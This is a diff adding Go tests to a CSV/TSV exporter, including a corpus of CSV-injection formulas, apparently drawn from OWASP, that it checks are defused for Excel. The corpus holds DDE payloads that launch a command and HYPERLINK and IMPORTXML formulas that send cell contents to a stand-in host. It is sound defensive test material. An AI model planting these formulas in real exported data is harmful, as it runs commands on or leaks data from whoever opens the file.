@@ -127,3 +127,36 @@ func TestAnErrorAmongTheRowsEndsTheFile(t *testing.T) {
 		t.Error("an int is no value of a column")
 	}
 }
+
+func TestTSV(t *testing.T) {
+	got := write(t, csv.TSV(), columns[:2], []any{"a\tb, \"c\"", int64(1)}, []any{"d,e", nil})
+	if want := "testo\tn\r\n\"a\tb, \"\"c\"\"\"\t1\r\nd,e\t\r\n"; got != want {
+		t.Errorf("got %q", got)
+	}
+}
+
+// TestTheCorpusOfFormulas holds what spreadsheets have been made to run (the
+// OWASP page on CSV injection, and what was seen) against both kinds of CSV.
+func TestTheCorpusOfFormulas(t *testing.T) {
+	for _, in := range []string{
+		"=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://e.example?x=\"&A1)",
+		"\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1+1", " =1+1", "|cmd", "=IMPORTXML(\"http://e.example\";\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
+		"=1+1\";=1+1;\"", "+39=1", "--1", "+-+1+cmd|'/C calc'!A1", "=\"a\";=1", "\ufeff=1+1", "＝1+1", "＠SUM(1)",
+	} {
+		excel := write(t, csv.Excel(), columns[:1], []any{in})
+		cell := bytes.TrimSuffix(bytes.TrimPrefix([]byte(excel), []byte("\ufefftesto\r\n")), []byte("\r\n"))
+		if !bytes.HasPrefix(cell, []byte(`"'`)) {
+			t.Errorf("%q is %q for Excel", in, cell)
+		}
+		for name, f := range map[string]exporter.Format{"CSV": csv.Format(), "TSV": csv.TSV()} {
+			if got := write(t, f, columns[:1], []any{in}); bytes.Contains([]byte(got), []byte("'"+in)) {
+				t.Errorf("%q is changed for programs in %s: %q", in, name, got)
+			}
+		}
+	}
+	for _, in := range []string{"-5", "+39 081 5551234", "-12,50", "+3.5", "a=b", "5-9", "x@y.example", "'già"} {
+		if got := write(t, csv.Excel(), columns[:1], []any{in}); got != "\ufefftesto\r\n"+in+"\r\n" {
+			t.Errorf("%q is harmless and was changed: %q", in, got)
+		}
+	}
+}
